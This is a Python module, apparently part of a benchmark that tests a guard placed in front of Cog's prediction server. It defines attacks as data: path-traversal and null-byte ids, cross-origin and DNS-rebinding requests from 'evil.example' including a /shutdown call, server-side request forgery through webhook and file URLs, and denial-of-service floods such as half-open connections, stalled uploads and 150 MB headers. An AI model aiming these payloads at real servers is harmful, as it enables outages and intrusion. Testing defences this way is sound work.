"""The attacks on Cog's server behind its guard."""

from __future__ import annotations

import json

from benchmarks.attack import sockets
from benchmarks.attack.http_attacks import Make
from benchmarks.attack.measure import Attack
from benchmarks.attack.sockets import Address
from benchmarks.attack.target import cog_request

PATH = "/predictions"


def bad_ids(address: Address, silent_url: str) -> Attack:
    """4 clients send predictions whose ids are too long for a folder, or lead elsewhere."""
    body = cog_request(times=100)
    clients = [
        sockets.repeating(address, sockets.head(address, f"{PATH}/{name}", len(body), method="PUT") + body)
        for name in ("a" * 300, "..%2f..%2fattack", "%2ftmp%2fattack", "x%00y")
    ]
    return Attack(name="Cog: ids", clients=clients, seconds=10)


def pages(address: Address, silent_url: str) -> Attack:
    """3 pages of other sites stop the server, ask it for predictions, and reach it by a name of their own."""
    body = cog_request(times=100)
    requests = [
        sockets.head(address, "/shutdown", 1, Origin="https://evil.example", Content_Type="text/plain") + b"x",
        sockets.head(address, PATH, len(body), Origin="https://evil.example") + body,
        sockets.head(address, PATH, len(body), Host="rebound.evil.example") + body,
    ]
    clients = [sockets.repeating(address, request) for request in requests]
    return Attack(name="Cog: pages of other sites", clients=clients, seconds=10)


def webhooks(address: Address, silent_url: str) -> Attack:
    """3 clients let the server send webhooks and outputs, and fetch, inside of its network."""
    whole = json.loads(cog_request(times=100))
    inside: list[dict[str, object]] = [
        {"webhook": silent_url},
        {"output_file_prefix": silent_url},
        {"input": {**whole["input"], "image": silent_url}},
    ]
    bodies = [json.dumps({**whole, **change}).encode() for change in inside]
    clients = [sockets.repeating(address, sockets.head(address, PATH, len(body)) + body) for body in bodies]
    return Attack(name="Cog: requests to the inside", clients=clients, seconds=10)


def leaving(address: Address, silent_url: str) -> Attack:
    """2 clients send predictions, and leave at once."""
    body = cog_request(times=100)
    client = sockets.repeating(address, sockets.head(address, PATH, len(body)) + body, leaves=True)
    return Attack(name="Cog: clients that leave", clients=[client] * 2, seconds=15)


def stalled_uploads(address: Address, silent_url: str) -> Attack:
    """40 clients declare 190 MB, send 10 MB, and stall."""
    client = sockets.stalling_upload(address, PATH, declared=190_000_000, sent=10_000_000)
    return Attack(name="Cog: stalled uploads", clients=[client] * 40, seconds=25, quiet_s=2)


def unread_answers(address: Address, silent_url: str) -> Attack:
    """2 clients ask for an output of 65 MB, as large as a splat, and do not read it."""
    client = sockets.unread_answer(address, PATH, cog_request(times=13_000_000))
    return Attack(name="Cog: unread answers", clients=[client] * 2, seconds=30, quiet_s=8)


def half_open(address: Address, silent_url: str) -> Attack:
    """1,100 connections, which send half a header, and are made again once they are cut."""
    return Attack(name="Cog: half-open connections", clients=[sockets.half_open(address, num=1100)], seconds=20)


def long_headers(address: Address, silent_url: str) -> Attack:
    """4 clients send 150 MB of headers each."""
    client = sockets.long_headers(address, num_bytes=150_000_000)
    return Attack(name="Cog: long headers", clients=[client] * 4, seconds=10, quiet_s=0.5)


ATTACKS: dict[str, Make] = {
    "cog-ids": bad_ids,
    "cog-pages": pages,
    "cog-webhooks": webhooks,
    "cog-leaving": leaving,
    "cog-stalled-uploads": stalled_uploads,
    "cog-unread-answers": unread_answers,
    "cog-half-open": half_open,
    "cog-long-headers": long_headers,
}
